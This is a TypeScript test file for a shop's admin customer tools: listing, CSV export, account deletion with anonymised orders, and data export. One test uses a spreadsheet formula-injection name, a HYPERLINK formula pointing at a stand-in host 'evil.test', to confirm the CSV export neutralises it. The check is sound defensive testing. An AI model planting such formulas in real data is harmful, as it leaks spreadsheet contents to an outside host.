import { parse } from "csv/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { CustomerListRow } from "../../server/modules/users/users.service";
import { type TestBrowser, browser, createAccount, signedIn } from "../support/auth-browser";
import { type ShoppingCatalog, checkoutBody, insertShoppingCatalog, setStock } from "../support/shop-fixture";
import { type TestShop, createTestShop } from "../support/test-shop";

let shop: TestShop;
let ids: ShoppingCatalog;
let admin: TestBrowser;
let adminId: string;
let n = 0;

beforeAll(async () => {
  shop = await createTestShop();
  ids = await insertShoppingCatalog(shop.db);
  await setStock(shop.db, ids.mug, 1000);
  adminId = (await createAccount(shop, { email: "owner@example.com", password: "owner-password-1", name: "Olivia Owner", role: "admin" })).id;
  admin = await signedIn(shop, "owner@example.com", "owner-password-1");
});
afterAll(() => shop?.close());

const call = (b: TestBrowser, method: string, path: string, body?: unknown) =>
  b.request(path, { method, headers: { "content-type": "application/json" }, body: body === undefined ? undefined : JSON.stringify(body) });

/** A signed-in customer with a fresh address (names and e-mails unique per test). */
async function customer(name: string) {
  n += 1;
  const email = `${name.toLowerCase().replace(/\W+/g, ".")}.${n}@example.com`;
  const user = await createAccount(shop, { email, password: "customer-password", name });
  return { id: user.id, email, b: await signedIn(shop, email, "customer-password") };
}

/** Moves an order to delivered, as the shop does (processing, shipped with a courier, delivered). */
async function deliver(orderId: string) {
  for (const to of ["processing", "shipped", "delivered"] as const)
    await shop.services.orderMoves.transition(orderId, to, "shop", { courier: "dhl", trackingNumber: "JD1" });
}

/** Places a cash-on-delivery order of `quantity` mugs (10.00 each plus shipping) from the customer's cart, keeping the address. */
async function order(b: TestBrowser, quantity = 1) {
  expect((await b.post("/api/cart/items", { productId: ids.mug, quantity })).status).toBe(201);
  const res = await b.post("/api/orders", checkoutBody({ saveAddress: true, notes: "Ring twice, ask for Ada" }));
  expect(res.status, await res.clone().text()).toBe(201);
  return (await res.json()).data.order as { id: string; totals: { total: number } };
}

async function list(query: string) {
  const res = await admin.get(`/api/admin/users?${query}`);
  expect(res.status, await res.clone().text()).toBe(200);
  return (await res.json()) as { data: Array<Record<string, unknown> & { id: string; email: string }>; meta: { total: number } };
}

describe("the customer list", () => {
  it("shows orders, total spent (cancelled left out, refunds taken off), verified, banned and last sign-in; searches by name; filters and sorts", async () => {
    const ada = await customer("Ada Lovelace Listed");
    const first = await order(ada.b, 2);
    const second = await order(ada.b, 1);
    const cancelled = await order(ada.b, 1);
    expect((await ada.b.post(`/api/orders/${cancelled.id}/cancel`)).status).toBe(200);
    const ben = await customer("Ben Listed");
    await order(ben.b, 1);
    const cy = await customer("Cy Listed");
    await call(admin, "POST", `/api/admin/users/${cy.id}/ban`, { reason: "Chargebacks" });

    const found = await list("search=listed&sort=orders&dir=desc");
    expect(found.data.map((u) => u.id)).toEqual([ada.id, ben.id, cy.id]);
    expect(found.data[0]).toMatchObject({ name: "Ada Lovelace Listed", email: ada.email, emailVerified: true, role: "customer", banned: false, orders: 2 });
    expect(found.data[0].totalSpent).toBeCloseTo(first.totals.total + second.totals.total, 2);
    expect(found.data[0].lastSignInAt).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(found.data[2]).toMatchObject({ banned: true, orders: 0, totalSpent: 0 });

    expect((await list("search=listed&sort=spent&dir=asc")).data.map((u) => u.id)).toEqual([cy.id, ben.id, ada.id]);
    expect((await list("search=listed&sort=name")).data.map((u) => u.id)).toEqual([ada.id, ben.id, cy.id]);
    expect((await list("search=listed&banned=true")).data.map((u) => u.id)).toEqual([cy.id]);
    expect((await list("search=listed&banned=false")).meta.total).toBe(2);
    expect((await list("search=listed&verified=false")).meta.total).toBe(0);
    expect((await list("role=admin")).data.map((u) => u.email)).toEqual(["owner@example.com"]);
    expect((await admin.get("/api/admin/users?sort=age")).status).toBe(400);

    // A refund is taken off what they spent.
    await shop.db.kysely.updateTable("orders").set({ refunded_total: 500 }).where("id", "=", first.id).execute();
    const refunded = await list("search=Ada%20Lovelace%20Listed");
    expect(refunded.data[0].totalSpent).toBeCloseTo(first.totals.total + second.totals.total - 5, 2);
    const page = await admin.get(`/api/admin/users/${ada.id}`);
    expect((await page.json()).data.stats.totalSpent).toBeCloseTo(first.totals.total + second.totals.total - 5, 2);
  });
});

describe("the customer list as CSV", () => {
  const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
  const HEADER = ["Name", "E-mail", "Role", "Verified", "Banned", "Orders", "Total spent", "Joined", "Last sign-in"];

  /** The export as sent (byte-order mark included) and its rows, each cell as a spreadsheet gets it. */
  async function exportCsv(b: TestBrowser, query: string) {
    const res = await b.get(`/api/admin/users/export.csv?${query}`);
    expect(res.status, await res.clone().text()).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="customers-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
    return { text, rows: parse(text, { bom: true }) as string[][] };
  }

  it("exports every account the list's filters select, in its order, with the list's figures; a formula for a name stays text", async () => {
    const zoe = await customer("Zoë Exported");
    const placed = await order(zoe.b, 2);
    const ben = await customer("Ben Exported");
    await call(admin, "POST", `/api/admin/users/${ben.id}/ban`, { reason: "Spam" });
    const formula = await createAccount(shop, { email: "formula.exported@example.com", password: "formula-password-1", name: FORMULA });
    await (await shop.services.auth.auth.$context).internalAdapter.updateUser(formula.id, { emailVerified: false });

    const { text, rows } = await exportCsv(admin, "search=exported&sort=name");
    // A byte-order mark, so that spreadsheets read the accents as UTF-8.
    expect(text.startsWith(`\ufeff${HEADER.join(",")}\n`)).toBe(true);
    // The same accounts, order and figures as the list shows.
    const listed = (await list("search=exported&sort=name")).data as unknown as CustomerListRow[];
    expect(listed.map((u) => u.id)).toEqual([formula.id, ben.id, zoe.id]);
    expect(rows).toEqual([
      HEADER,
      ...listed.map((u) => [
        u.name === FORMULA ? `'${FORMULA}` : u.name,
        u.email,
        u.role,
        u.emailVerified ? "yes" : "no",
        u.banned ? "yes" : "no",
        String(u.orders),
        u.totalSpent.toFixed(2),
        u.createdAt,
        u.lastSignInAt ?? "",
      ]),
    ]);
    // Behind a single quote a spreadsheet shows the name and runs nothing.
    expect(rows[1]).toEqual([
      `'${FORMULA}`,
      "formula.exported@example.com",
      "customer",
      "no",
      "no",
      "0",
      "0.00",
      expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      "",
    ]);
    expect(rows[2]).toEqual(["Ben Exported", ben.email, "customer", "yes", "yes", "0", "0.00", expect.any(String), expect.stringMatching(/^\d{4}-\d\d-\d\dT/)]);
    expect(rows[3]!.slice(0, 7)).toEqual(["Zoë Exported", zoe.email, "customer", "yes", "no", "1", placed.totals.total.toFixed(2)]);

    // The filters and the sort apply as on the list.
    const names = async (query: string) => (await exportCsv(admin, query)).rows.slice(1).map((r) => r[0]);
    expect(await names("search=exported&banned=true")).toEqual(["Ben Exported"]);
    expect(await names("search=exported&banned=false&sort=name&dir=desc")).toEqual(["Zoë Exported", `'${FORMULA}`]);
    expect(await names("search=exported&verified=false")).toEqual([`'${FORMULA}`]);
    expect(await names("search=exported&verified=true&sort=spent&dir=desc")).toEqual(["Zoë Exported", "Ben Exported"]);
    expect(await names("role=admin")).toEqual(["Olivia Owner"]);
    expect(await names("search=nobody-is-called-this")).toEqual([]);
    expect((await admin.get("/api/admin/users/export.csv?sort=age")).status).toBe(400);
  });

  it("exports all of them, not one page of the list", async () => {
    const ctx = await shop.services.auth.auth.$context;
    for (let i = 0; i < 60; i++) {
      await ctx.internalAdapter.createUser(
        { email: `bulk.export.${String(i).padStart(2, "0")}@example.com`, name: `Bulk Export ${i}`, emailVerified: true, role: "customer" },
        { method: "admin" },
      );
    }
    expect((await list("search=bulk.export")).data).toHaveLength(50);
    const { rows } = await exportCsv(admin, "search=bulk.export&sort=name");
    expect(rows).toHaveLength(61);
    expect(new Set(rows.slice(1).map((r) => r[1])).size).toBe(60);
  });

  it("is refused to visitors (401) and to staff without the customers permission (403)", async () => {
    await createAccount(shop, { email: "export.desk@example.com", password: "desk-password-1", role: "staff", permissions: ["orders", "reports"] });
    await createAccount(shop, { email: "export.helper@example.com", password: "helper-password-1", role: "staff", permissions: ["customers"] });
    const anonymous = await browser(shop).get("/api/admin/users/export.csv");
    expect(anonymous.status).toBe(401);
    const desk = await signedIn(shop, "export.desk@example.com", "desk-password-1");
    const refused = await desk.get("/api/admin/users/export.csv");
    expect(refused.status).toBe(403);
    expect((await refused.json()).error.code).toBe("forbidden");
    const helper = await signedIn(shop, "export.helper@example.com", "helper-password-1");
    expect((await exportCsv(helper, "search=exported")).rows).toHaveLength(4);
  });
});

describe("a customer's page", () => {
  it("shows the account, addresses, orders and signed-in devices; revoking a device signs it out (audited)", async () => {
    const ada = await customer("Ada Detail");
    const placed = await order(ada.b);
    const res = await admin.get(`/api/admin/users/${ada.id}`);
    expect(res.status).toBe(200);
    const { data } = await res.json();
    expect(data.account).toMatchObject({ id: ada.id, email: ada.email });
    expect(data.stats).toEqual({ orders: 1, totalSpent: placed.totals.total });
    expect(data.addresses).toEqual([expect.objectContaining({ line1: "1 Harbour Street", city: "Arlington" })]);
    expect(data.orders.map((o: { id: string }) => o.id)).toEqual([placed.id]);
    expect(data.sessions).toHaveLength(1);
    expect(JSON.stringify(data.sessions)).not.toContain("token");

    expect((await call(admin, "DELETE", `/api/admin/users/${ada.id}/sessions/${data.sessions[0].id}`)).status).toBe(200);
    expect(await ada.b.session()).toBeNull();
    expect((await ada.b.get("/api/orders")).status).toBe(200);
    expect((await (await ada.b.get("/api/orders")).json()).data ?? []).toEqual([]);
    expect((await call(admin, "DELETE", `/api/admin/users/${ada.id}/sessions/${data.sessions[0].id}`)).status).toBe(404);
    const audit = await shop.services.audit.list({ entity: "user", entityId: ada.id });
    expect(audit.entries.map((e) => e.action)).toContain("user.revoke");
    expect((await admin.get("/api/admin/users/no-such-user")).status).toBe(404);
  });
});

describe("deleting a customer", () => {
  it("keeps their orders anonymised and removes the account, sessions, cart, wishlist and addresses", async () => {
    const ada = await customer("Ada Deleted");
    const placed = await order(ada.b, 2);
    expect((await ada.b.post("/api/cart/items", { productId: ids.mug, quantity: 1 })).status).toBe(201);
    expect((await ada.b.post("/api/wishlist/toggle", { productId: ids.cap })).status).toBeLessThan(300);
    expect(await ada.b.session()).not.toBeNull();

    // Not while the order is on its way: delivering it needs her name and address.
    const early = await call(admin, "DELETE", `/api/admin/users/${ada.id}`);
    expect(early.status).toBe(409);
    expect((await early.json()).error.message).toMatch(/^Order [A-Z0-9-]+ is not delivered yet/);
    expect(await shop.services.users.getUser(ada.id)).not.toBeNull();
    expect(await ada.b.session()).not.toBeNull();
    await deliver(placed.id);

    const res = await call(admin, "DELETE", `/api/admin/users/${ada.id}`);
    expect(res.status, await res.clone().text()).toBe(200);
    expect((await res.json()).data).toEqual({ deleted: true, ordersKept: 1 });

    // Their session cookie no longer works.
    expect(await ada.b.session()).toBeNull();
    expect((await ada.b.get(`/api/auth/user/${ada.id}`)).status).toBe(401);
    // The order stays for the books, without the person.
    const kept = await shop.services.orders.getOrder(placed.id, { shopper: { userId: null, visitorId: null }, forShop: true });
    expect(kept.contact).toEqual({ name: "Deleted customer", email: "", phone: "" });
    expect(kept.address).toMatchObject({ line1: "", city: "", postalCode: null, country: "" });
    expect(kept.notes).toBeNull();
    expect(kept.totals.total).toBe(placed.totals.total);
    expect(kept.lines).toHaveLength(1);
    const k = shop.db.kysely;
    const row = await k.selectFrom("orders").select(["user_id", "visitor_id"]).where("id", "=", placed.id).executeTakeFirstOrThrow();
    expect(row).toEqual({ user_id: null, visitor_id: null });
    const count = async (q: Promise<{ n: number | string } | undefined>) => Number((await q)?.n ?? 0);
    expect(await shop.services.users.getUser(ada.id)).toBeNull();
    expect(
      await count(
        k
          .selectFrom("addresses")
          .select((eb) => eb.fn.countAll<number>().as("n"))
          .where("user_id", "=", ada.id)
          .executeTakeFirst(),
      ),
    ).toBe(0);
    expect(
      await count(
        k
          .selectFrom("carts")
          .select((eb) => eb.fn.countAll<number>().as("n"))
          .where("owner", "=", `user:${ada.id}`)
          .executeTakeFirst(),
      ),
    ).toBe(0);
    expect(
      await count(
        k
          .selectFrom("wishlist_items")
          .select((eb) => eb.fn.countAll<number>().as("n"))
          .where("owner", "=", `user:${ada.id}`)
          .executeTakeFirst(),
      ),
    ).toBe(0);
    expect(await shop.services.users.listSessions(ada.id)).toEqual([]);
    // Audited, without the person's e-mail.
    const audit = await shop.services.audit.list({ entity: "user", entityId: ada.id });
    expect(audit.entries[0]).toMatchObject({ action: "user.delete", actor: { id: adminId, email: "owner@example.com" } });
    expect(JSON.stringify(audit.entries[0].changes)).not.toContain(ada.email);
    expect((await admin.get(`/api/admin/users/${ada.id}`)).status).toBe(404);
    expect((await call(admin, "DELETE", `/api/admin/users/${ada.id}`)).status).toBe(404);
  });

  it("refuses deleting oneself from the admin, staff deleting staff, and the last administrator (nothing deleted)", async () => {
    expect((await call(admin, "DELETE", `/api/admin/users/${adminId}`)).status).toBe(403);
    const staffEmail = "helper@example.com";
    await createAccount(shop, { email: staffEmail, password: "helper-password-1", role: "staff", permissions: ["customers"] });
    const other = await createAccount(shop, { email: "packer@example.com", password: "packer-password-1", role: "staff", permissions: ["orders"] });
    const helper = await signedIn(shop, staffEmail, "helper-password-1");
    expect((await call(helper, "DELETE", `/api/admin/users/${other.id}`)).status).toBe(403);
    expect((await call(helper, "DELETE", `/api/admin/users/${adminId}`)).status).toBe(403);
    expect(await shop.services.users.getUser(other.id)).not.toBeNull();
    const plain = await customer("Plain Customer");
    expect((await call(helper, "DELETE", `/api/admin/users/${plain.id}`)).status).toBe(200);

    // The shop's only administrator cannot delete their own account either (409), from their profile.
    const res = await admin.post("/api/account/delete", { password: "owner-password-1" });
    expect(res.status).toBe(409);
    expect(await shop.services.users.getUser(adminId)).not.toBeNull();
    expect(await admin.session()).not.toBeNull();
  });
});

describe("two administrators deleting each other at once", () => {
  it("leaves exactly one: the second deletion is refused (409)", async () => {
    const own = await createTestShop();
    try {
      const a = await createAccount(own, { email: "first-admin@example.com", password: "first-password-1", role: "admin" });
      const b = await createAccount(own, { email: "second-admin@example.com", password: "second-password-1", role: "admin" });
      const as = (u: { id: string; email: string }) => ({ id: u.id, email: u.email, role: "admin" as const, requestId: null });
      const results = await Promise.allSettled([own.services.customers.delete(as(a), b.id), own.services.customers.delete(as(b), a.id)]);
      expect(results.map((r) => r.status).sort()).toEqual(["fulfilled", "rejected"]);
      const refused = results.find((r): r is PromiseRejectedResult => r.status === "rejected")!;
      expect(refused.reason).toMatchObject({ code: "conflict" });
      expect(await own.services.users.countAdmins()).toBe(1);
    } finally {
      await own.close();
    }
  });
});

describe("a customer's data export", () => {
  it("holds the profile, addresses, orders with lines, wishlist, cart, devices without tokens and the audit entries about them", async () => {
    const ada = await customer("Ada Exported");
    const placed = await order(ada.b, 2);
    expect((await ada.b.post("/api/cart/items", { productId: ids.mug, quantity: 1 })).status).toBe(201);
    expect((await ada.b.post("/api/wishlist/toggle", { productId: ids.cap })).status).toBeLessThan(300);
    await call(admin, "POST", `/api/admin/users/${ada.id}/ban`, { reason: "Testing the export" });
    await call(admin, "POST", `/api/admin/users/${ada.id}/unban`);
    await signedIn(shop, ada.email, "customer-password");

    const res = await admin.get(`/api/admin/users/${ada.id}/export`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="customer-.*\.json"/);
    const data = await res.json();
    expect(data.profile).toMatchObject({ id: ada.id, email: ada.email, name: "Ada Exported" });
    expect(data.addresses).toEqual([expect.objectContaining({ line1: "1 Harbour Street" })]);
    expect(data.orders).toHaveLength(1);
    expect(data.orders[0]).toMatchObject({ id: placed.id, lines: [expect.objectContaining({ name: "Mug", quantity: 2 })] });
    expect(data.wishlist.map((w: { productId?: string; id?: string }) => w.productId ?? w.id)).toEqual([ids.cap]);
    expect(data.cart.lines).toHaveLength(1);
    expect(data.sessions).toHaveLength(1);
    expect(data.auditEntries.map((e: { action: string }) => e.action)).toEqual(expect.arrayContaining(["user.ban", "user.unban"]));
    const text = JSON.stringify(data);
    expect(text).not.toMatch(/"token"|password/i);
    // The export itself is in the trail.
    const audit = await shop.services.audit.list({ entity: "user", entityId: ada.id });
    expect(audit.entries[0].action).toBe("user.export");
  });
});

describe("deleting one's own account", () => {
  it("with a wrong or missing password deletes nothing (403, 400)", async () => {
    const ada = await customer("Ada Careful");
    await order(ada.b);
    const wrong = await ada.b.post("/api/account/delete", { password: "not-my-password" });
    expect(wrong.status).toBe(403);
    expect((await wrong.json()).error.fields.password).toBeTruthy();
    expect((await ada.b.post("/api/account/delete", {})).status).toBe(400);
    expect(await shop.services.users.getUser(ada.id)).not.toBeNull();
    expect(await ada.b.session()).not.toBeNull();
    expect((await browser(shop).post("/api/account/delete", { password: "x" })).status).toBe(401);
    // Guessing stops after five tries, even with the right password.
    for (let i = 0; i < 3; i++) expect((await ada.b.post("/api/account/delete", { password: `guess-${i}` })).status).toBe(403);
    expect((await ada.b.post("/api/account/delete", { password: "customer-password" })).status).toBe(429);
    expect(await shop.services.users.getUser(ada.id)).not.toBeNull();
  });

  it("with the right password deletes the account, keeps the orders anonymised and signs out", async () => {
    const ada = await customer("Ada Leaving");
    const placed = await order(ada.b);
    const mine = await ada.b.get("/api/account/export");
    expect(mine.status).toBe(200);
    expect((await mine.json()).orders.map((o: { id: string }) => o.id)).toEqual([placed.id]);
    const early = await ada.b.post("/api/account/delete", { password: "customer-password" });
    expect(early.status).toBe(409);
    expect(await shop.services.users.getUser(ada.id)).not.toBeNull();
    await deliver(placed.id);
    const res = await ada.b.post("/api/account/delete", { password: "customer-password" });
    expect(res.status, await res.clone().text()).toBe(200);
    expect(await res.json()).toEqual({ deleted: true, ordersKept: 1 });
    expect(res.headers.getSetCookie().some((c) => /session_token=;/.test(c))).toBe(true);
    expect(await shop.services.users.getUser(ada.id)).toBeNull();
    expect(await ada.b.session()).toBeNull();
    const kept = await shop.services.orders.getOrder(placed.id, { shopper: { userId: null, visitorId: null }, forShop: true });
    expect(kept.contact.name).toBe("Deleted customer");
    const audit = await shop.services.audit.list({ entity: "user", entityId: ada.id });
    expect(audit.entries[0]).toMatchObject({ action: "user.delete", actor: { id: ada.id, email: "deleted customer" } });
  });

  it("without a password (social sign-in) is confirmed through a mailed link that works once", async () => {
    // Signed in, then left with a social sign-in only (as an account made through GitHub is).
    const { id: userId, email, b } = await customer("Sam Social");
    const ctx = await shop.services.auth.auth.$context;
    for (const account of await ctx.internalAdapter.findAccounts(userId)) await ctx.internalAdapter.deleteAccount(account.id);
    await ctx.internalAdapter.linkAccount({ userId, providerId: "github", accountId: `gh-${userId}` });
    const user = { id: userId };

    const asked = await b.post("/api/account/delete", {});
    expect(asked.status, await asked.clone().text()).toBe(202);
    await shop.services.auth.idle();
    const mail = shop.services.mailer.outbox.filter((m) => m.to === email).at(-1)!;
    const token = new URL(mail.text.match(/https?:\/\/\S+delete-token=\S+/)![0]).searchParams.get("delete-token")!;
    expect((await b.post("/api/account/delete", { token: "forged" })).status).toBe(400);
    expect(await shop.services.users.getUser(user.id)).not.toBeNull();
    expect((await b.post("/api/account/delete", { token })).status).toBe(200);
    expect(await shop.services.users.getUser(user.id)).toBeNull();
  });
});
